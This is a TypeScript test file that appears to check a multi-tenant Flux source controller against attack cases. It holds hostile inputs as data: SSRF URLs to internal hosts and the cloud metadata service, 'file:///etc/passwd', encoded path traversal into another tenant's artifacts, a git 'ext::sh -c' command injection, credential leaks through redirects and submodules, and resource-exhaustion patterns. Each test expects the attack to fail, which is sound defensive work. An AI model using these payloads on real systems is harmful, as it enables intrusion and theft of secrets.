import { expect } from 'vitest'
import { type Attack, absent, both, fails, sendsNothing, sourceFails } from './attack.ts'
import { OWN_SECRET, type World } from './world.ts'

function source(kind: string, name: string, spec: string, more = ''): string {
  return `apiVersion: source.toolkit.fluxcd.io/v1\nkind: ${kind}\nmetadata: {name: ${name}, namespace: tenant-a}\nspec: {${kind === 'ExternalArtifact' ? 'sourceRef: {apiVersion: v1, kind: ConfigMap, name: x}' : `interval: 1h, ${spec}`}}\n${more}`
}

const ZEROS = '0'.repeat(64)

/** A source whose status the attacker wrote, and a Kustomization of it. */
function swapped(
  name: string,
  does: string,
  url: (world: World) => string,
  more: { readonly digest?: string; readonly kind?: string; readonly want?: Attack['want'] } = {},
): Attack {
  const {
    digest = `sha256:${ZEROS}`,
    kind = 'GitRepository',
    want = fails(/can't access the artifact/),
  } = more
  const spec = `suspend: true, url: 'http://127.0.0.1:1/${name}.git'`
  return {
    name,
    does,
    objects: (world) =>
      source(
        kind,
        name,
        spec,
        `status:\n  artifact: {path: x, url: "${url(world)}", revision: "main@sha1:1", digest: "${digest}", lastUpdateTime: "2026-01-01T00:00:00Z", size: 1}\n`,
      ),
    spec: `sourceRef: {kind: ${kind}, name: ${name}}`,
    want: both(want, sendsNothing),
  }
}

function noSecretAt(host: 'evil' | 'internal'): Attack['want'] {
  const basic = Buffer.from(`git:${OWN_SECRET}`).toString('base64')
  return ({ world, name }) => {
    const asked = world[host].requests.filter((request) => request.includes(name)).join('\n')
    expect(asked).not.toContain(OWN_SECRET)
    expect(asked).not.toContain(basic)
  }
}

function internalSource(
  kind: string,
  name: string,
  does: string,
  spec: (world: World) => string,
): Attack {
  return {
    name,
    does,
    spec: 'none',
    objects: (world) => source(kind, name, spec(world)),
    want: sourceFails(kind, /./),
  }
}

/** Sources: statuses that the attacker wrote, credentials that leave, answers that are quoted. */
export const SOURCES: readonly Attack[] = [
  swapped(
    'artifact-internal',
    'has an internal host asked for an artifact, by a status that it wrote',
    ({ internal }) => `${internal.url}/artifact-internal/x.tar.gz`,
  ),
  swapped(
    'artifact-evil',
    'has its own host asked for an artifact',
    ({ evil }) => `${evil.url}/gitrepository/tenant-a/artifact-evil/x.tar.gz`,
  ),
  swapped(
    'artifact-foreign',
    "takes another tenant's artifact from our own store",
    ({ artifacts }) => `http://${artifacts}/gitrepository/tenant-b/victim/latest.tar.gz`,
  ),
  swapped(
    'artifact-climb',
    "climbs to another tenant's artifact from its own folder",
    ({ artifacts }) =>
      `http://${artifacts}/gitrepository/tenant-a/artifact-climb/../../tenant-b/victim/latest.tar.gz`,
  ),
  swapped(
    'artifact-encoded',
    'climbs by encoded dots',
    ({ artifacts }) =>
      `http://${artifacts}/gitrepository/tenant-a/artifact-encoded/%2e%2e/%2e%2e/tenant-b/victim/latest.tar.gz`,
    { want: both(fails(/./), absent('ConfigMap', 'tenant-a', 'from-git')) },
  ),
  swapped(
    'artifact-slashes',
    'climbs by encoded slashes',
    ({ artifacts }) =>
      `http://${artifacts}/gitrepository/tenant-a/artifact-slashes/..%2f..%2ftenant-b/victim/latest.tar.gz`,
    { want: fails(/./) },
  ),
  swapped(
    'artifact-user',
    'hides a host behind a user',
    ({ internal, artifacts }) =>
      `http://${artifacts}@${internal.url.slice(7)}/gitrepository/tenant-a/artifact-user/x.tar.gz`,
  ),
  swapped(
    'artifact-file',
    'reads a file of the controller as an artifact',
    () => 'file:///etc/passwd',
  ),
  swapped(
    'artifact-metadata',
    "asks the cloud's metadata service for an artifact",
    () => 'http://169.254.169.254/latest/meta-data',
  ),
  swapped(
    'artifact-digest',
    'publishes an artifact without a digest',
    ({ artifacts }) => `http://${artifacts}/gitrepository/tenant-a/artifact-digest/x.tar.gz`,
    { digest: '', want: fails(/./) },
  ),
  swapped(
    'artifact-external',
    'has an internal host asked by an ExternalArtifact',
    ({ internal }) => `${internal.url}/artifact-external/x.tar.gz`,
    { kind: 'ExternalArtifact' },
  ),
  swapped(
    'artifact-bucket',
    'has an internal host asked by a Bucket',
    ({ internal }) => `${internal.url}/artifact-bucket/x.tar.gz`,
    { kind: 'GitRepository' },
  ),
  internalSource(
    'GitRepository',
    'git-body',
    "reads an internal server's answer in the condition of a GitRepository",
    ({ internal }) => `url: '${internal.url}/git-body.git'`,
  ),
  internalSource(
    'OCIRepository',
    'oci-body',
    "reads an internal server's answer in the condition of an OCIRepository",
    ({ internal }) =>
      `url: 'oci://${internal.url.slice(7)}/oci-body', insecure: true, ref: {tag: x}`,
  ),
  internalSource(
    'Bucket',
    'bucket-body',
    "reads an internal server's answer in the condition of a Bucket",
    ({ internal }) =>
      `endpoint: '${internal.url.slice(7)}', bucketName: bucket-body, insecure: true`,
  ),
  internalSource(
    'GitRepository',
    'git-file',
    'clones a repository of the host by file://',
    () => "url: 'file:///root/secrets.git'",
  ),
  internalSource(
    'GitRepository',
    'git-ext',
    "runs a program by git's ext transport",
    () => "url: 'ext::sh -c touch% /tmp/x'",
  ),
  internalSource(
    'GitRepository',
    'git-redirect',
    "is redirected to the cloud's metadata service",
    ({ git }) => `url: '${git.url}/inward/tenant.git'`,
  ),
  {
    name: 'git-login-redirect',
    does: 'has a password sent on by a redirect',
    spec: 'none',
    objects: ({ evil }) =>
      source(
        'GitRepository',
        'git-login-redirect',
        `url: '${evil.url}/git-login-redirect.git', secretRef: {name: login}`,
      ),
    want: sourceFails('GitRepository', /./),
  },
  {
    name: 'submodule-login',
    does: "has the parent's password sent to the host of a submodule",
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'submodule-login',
        `url: '${git.url}/plain/submodule.git', ref: {branch: main}, recurseSubmodules: true, secretRef: {name: login}`,
      ),
    want: both(sourceFails('GitRepository', /./), noSecretAt('evil'), noSecretAt('internal')),
  },
  {
    name: 'submodule-internal',
    does: "reads an internal server's answer by a submodule",
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'submodule-internal',
        `url: '${git.url}/plain/submodule.git', ref: {branch: main}, recurseSubmodules: true`,
      ),
    want: sourceFails('GitRepository', /./),
  },
  {
    name: 'submodule-file',
    does: 'has a folder of the host as a submodule',
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'submodule-file',
        `url: '${git.url}/plain/submodule-file.git', ref: {branch: main}, recurseSubmodules: true`,
      ),
    want: sourceFails('GitRepository', /unsupported/),
  },
  internalSource(
    'GitRepository',
    'semver-bomb',
    'keeps the controller busy with a range of versions',
    ({ git }) => `url: '${git.url}/plain/tenant.git', ref: {semver: '${'>=1.0.0 '.repeat(2000)}x'}`,
  ),
  {
    name: 'ignore-bomb',
    does: 'keeps the controller busy with ignore rules',
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'ignore-bomb',
        `url: '${git.url}/plain/tenant.git', ref: {branch: main}, ignore: '${'*a'.repeat(60)}b'`,
      ),
    want: async ({ world }) =>
      expect(await world.get('GitRepository', 'tenant-a', 'ignore-bomb')).toBeDefined(),
  },
]
